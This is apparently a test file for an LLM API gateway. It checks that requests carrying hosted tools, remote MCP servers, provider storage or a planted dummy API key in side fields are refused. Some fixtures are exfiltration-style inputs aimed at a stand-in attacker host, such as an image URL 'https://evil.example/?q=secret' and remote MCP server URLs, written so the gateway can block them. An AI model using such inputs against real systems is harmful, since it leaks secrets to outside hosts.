import { describe, expect, test } from "vitest";
import { testFacts, testSnapshot, testSystem, testTool } from "../testing/facts.ts";
import { startTestGateway } from "../testing/gateway.ts";
import { hello, setStage } from "../testing/stage.ts";
import { sendJson } from "../testing/upstream.ts";

// Members that do more than they seem to: effects, references, and what is said beside the conversation.

const stage = setStage();

describe("fields", () => {
  test("unlisted: T0 passes with a finding, T2 refuses", async () => {
    await stage.start("T0");
    expect((await stage.gateway.call("/v1/chat/completions", { ...hello, brand_new: 1 })).status).toBe(200);
    expect(stage.gateway.control.findings.map((finding) => finding.kind)).toEqual(["unlisted_field"]);
    await stage.gateway.close();
    await stage.start("T2");
    const answer = await stage.gateway.call("/v1/chat/completions", { ...hello, brand_new: 1 });
    expect([answer.status, answer.body.error.code, answer.body.error.param]).toEqual([
      422,
      "unsupported_field",
      "brand_new",
    ]);
  });

  const effects: [string, string, Record<string, unknown>][] = [
    ["a hosted tool", "/v1/chat/completions", { ...hello, tools: [{ type: "web_search" }] }],
    ["search options", "/v1/chat/completions", { ...hello, web_search_options: {} }],
    ["store", "/v1/chat/completions", { ...hello, store: true }],
    [
      "an image the provider fetches",
      "/v1/chat/completions",
      {
        model: "gpt-test",
        messages: [
          { role: "user", content: [{ type: "image_url", image_url: { url: "https://evil.example/?q=secret" } }] },
        ],
      },
    ],
    [
      "remote MCP",
      "/v1/responses",
      { model: "gpt-test", input: "x", tools: [{ type: "mcp", server_url: "https://evil.example" }] },
    ],
    [
      "a hosted tool inside a namespace",
      "/v1/responses",
      {
        model: "gpt-test",
        input: "x",
        tools: [{ type: "namespace", name: "n", tools: [{ type: "code_interpreter" }] }],
      },
    ],
    ["background", "/v1/responses", { model: "gpt-test", input: "x", background: true }],
    [
      "remote MCP",
      "/v1/messages",
      {
        model: "claude-test",
        max_tokens: 1,
        messages: hello.messages,
        mcp_servers: [{ type: "url", url: "https://evil.example", name: "x" }],
      },
    ],
    [
      "code execution",
      "/v1/messages",
      {
        model: "claude-test",
        max_tokens: 1,
        messages: hello.messages,
        tools: [{ type: "code_execution_20250825", name: "code_execution" }],
      },
    ],
  ];
  for (const [what, path, body] of effects) {
    test(`with effect, not granted: ${what} on ${path} is refused in T0 too`, async () => {
      await stage.start("T0");
      const answer = await stage.gateway.call(path, body);
      expect(answer.status, answer.text).toBe(403);
      expect(stage.upstream.connections).toBe(0);
    });
  }

  test("a granted hosted tool may be offered", async () => {
    const facts = testFacts(
      stage.upstream.endpoint,
      testSystem("T0", {
        grants: { models: ["gpt-test"], tools: ["hosted.web_search"], datasets: [], prompts: [], destinations: [] },
      }),
      { tools: [testTool("hosted.web_search")] },
    );
    stage.gateway = await startTestGateway(testSnapshot(facts));
    const answer = await stage.gateway.call("/v1/chat/completions", {
      ...hello,
      tools: [{ type: "web_search_preview_2025_03_11" }],
    });
    expect(answer.status, answer.text).toBe(200);
  });

  test("what the provider does by default is asked for too: Responses without `store` is refused in T2, a finding in T0", async () => {
    await stage.start("T2");
    const silent = { model: "gpt-test", input: "x" };
    for (const body of [silent, { ...silent, store: null }]) {
      const answer = await stage.gateway.call("/v1/responses", body);
      expect([answer.status, answer.body.error.code, answer.body.error.param]).toEqual([
        422,
        "unsupported_field",
        "store",
      ]);
      expect(answer.body.error.remedies[0].text).toContain('"store": false');
    }
    expect((await stage.gateway.call("/v1/responses", { ...silent, store: true })).status).toBe(403);
    expect(stage.upstream.connections).toBe(0);
    await stage.gateway.close();
    await stage.start("T0");
    expect((await stage.gateway.call("/v1/responses", silent)).status).toBe(200);
    expect(stage.gateway.control.findings.map((finding) => finding.kind)).toContain("implied_effect");
  });

  test("a reference to something we did not issue is refused; one we issued passes", async () => {
    await stage.start("T2");
    const foreign = await stage.gateway.call("/v1/responses", {
      model: "gpt-test",
      input: "x",
      store: false,
      previous_response_id: "resp_1",
    });
    expect([foreign.status, foreign.body.error.param]).toEqual([422, "previous_response_id"]);
    stage.upstream.answer = (_request, res) =>
      sendJson(res, {
        id: "resp_1",
        object: "response",
        model: "gpt-test",
        output: [],
        usage: { input_tokens: 1, output_tokens: 1 },
      });
    expect((await stage.gateway.call("/v1/responses", { model: "gpt-test", input: "x", store: false })).status).toBe(200);
    expect(
      (
        await stage.gateway.call("/v1/responses", {
          model: "gpt-test",
          input: "x",
          store: false,
          previous_response_id: "resp_1",
        })
      ).status,
    ).toBe(200);
  });
});

describe("what stands beside the conversation", () => {
  const key = "sk-proj-abcdefghijklmnopqrstT3BlbkFJabcdefghijklmnopqrst";
  const places: [string, string, Record<string, unknown>][] = [
    ["a tool's description", "/v1/chat/completions", { ...hello, tools: [{ type: "function", function: { name: "f", description: key } }] }],
    ["a predicted output", "/v1/chat/completions", { ...hello, prediction: { type: "content", content: key } }],
    ["metadata", "/v1/chat/completions", { ...hello, metadata: { note: key } }],
    ["a schema", "/v1/chat/completions", { ...hello, response_format: { type: "json_schema", json_schema: { name: "x", description: key } } }],
    ["a field nobody knows", "/v1/chat/completions", { ...hello, brand_new: { note: key } }],
    [
      "the arguments of an earlier call",
      "/v1/chat/completions",
      {
        model: "gpt-test",
        messages: [
          ...hello.messages,
          { role: "assistant", tool_calls: [{ id: "c", type: "function", function: { name: "f", arguments: `{"a":"${key}"}` } }] },
        ],
      },
    ],
    ["the arguments of an earlier call", "/v1/responses", { model: "gpt-test", input: [{ type: "function_call", call_id: "c", name: "f", arguments: `{"a":"${key}"}` }] }],
    ["earlier reasoning", "/v1/responses", { model: "gpt-test", input: [{ type: "reasoning", id: "r", summary: [{ type: "summary_text", text: key }] }] }],
    [
      "the arguments of an earlier call",
      "/v1/messages",
      { model: "claude-test", max_tokens: 1, messages: [{ role: "assistant", content: [{ type: "tool_use", id: "t", name: "f", input: { a: key } }] }] },
    ],
    [
      "a document inside a document",
      "/v1/messages",
      {
        model: "claude-test",
        max_tokens: 1,
        messages: [{ role: "user", content: [{ type: "document", source: { type: "content", content: [{ type: "text", text: key }] } }] }],
      },
    ],
  ];
  for (const [what, path, body] of places)
    test(`${what} on ${path} is checked: a secret in it goes nowhere`, async () => {
      await stage.start("T0");
      const answer = await stage.gateway.call(path, body);
      expect([answer.status, answer.body.error.code], answer.text).toEqual([403, "data_boundary"]);
      expect(stage.upstream.connections).toBe(0);
    });

  const later: [string, string, Record<string, unknown>, number][] = [
    ["tools added by an item", "/v1/responses", { model: "gpt-test", input: [{ type: "additional_tools", role: "developer", tools: [{ type: "web_search" }] }] }, 403],
    ["a yes to a remote server's call", "/v1/responses", { model: "gpt-test", input: [{ type: "mcp_approval_response", approve: true, approval_request_id: "a" }] }, 403],
    ["another model to look at it", "/v1/responses", { model: "gpt-test", input: "x", moderation: { model: "omni" } }, 403],
    ["an access program", "/v1/responses", { model: "gpt-test", input: "x", access_programs: { cyber: "daybreak_red" } }, 403],
    ["a stored prompt", "/v1/responses", { model: "gpt-test", input: "x", prompt: { id: "pmpt_1" } }, 422],
    ["a conversation", "/v1/responses", { model: "gpt-test", input: "x", conversation: { id: "conv_1" } }, 422],
    ["speech kept there", "/v1/chat/completions", { model: "gpt-test", messages: [...hello.messages, { role: "assistant", audio: { id: "audio_1" } }] }, 422],
    ["a file kept there", "/v1/chat/completions", { model: "gpt-test", messages: [{ role: "user", content: [{ type: "file", file: { file_id: "file_1" } }] }] }, 422],
    [
      "tools added by a block",
      "/v1/messages",
      { model: "claude-test", max_tokens: 1, messages: [{ role: "user", content: [{ type: "tool_addition", tool: { type: "web_search_20250305", name: "web_search" } }] }] },
      403,
    ],
    ["another model in its place", "/v1/messages", { model: "claude-test", max_tokens: 1, messages: hello.messages, fallbacks: [{ model: "claude-other" }] }, 403],
    ["a thread kept there", "/v1/messages", { model: "claude-test", max_tokens: 1, messages: hello.messages, thread: { type: "create" } }, 403],
    ["someone's thread", "/v1/messages", { model: "claude-test", max_tokens: 1, messages: hello.messages, thread: { type: "continue", previous_message_id: "msg_1" } }, 422],
    ["a container", "/v1/messages", { model: "claude-test", max_tokens: 1, messages: hello.messages, container: "container_1" }, 403],
    [
      "a document the provider fetches",
      "/v1/messages",
      { model: "claude-test", max_tokens: 1, messages: [{ role: "user", content: [{ type: "document", source: { type: "url", url: "https://evil.example" } }] }] },
      403,
    ],
    [
      "a file kept there",
      "/v1/messages",
      { model: "claude-test", max_tokens: 1, messages: [{ role: "user", content: [{ type: "document", source: { type: "file", file_id: "file_1" } }] }] },
      422,
    ],
  ];
  for (const [what, path, body, status] of later)
    test(`${what} on ${path} is refused in T0 too`, async () => {
      await stage.start("T0");
      const answer = await stage.gateway.call(path, { ...(path === "/v1/responses" ? { store: false } : {}), ...body });
      expect(answer.status, answer.text).toBe(status);
      expect(stage.upstream.connections).toBe(0);
    });
});
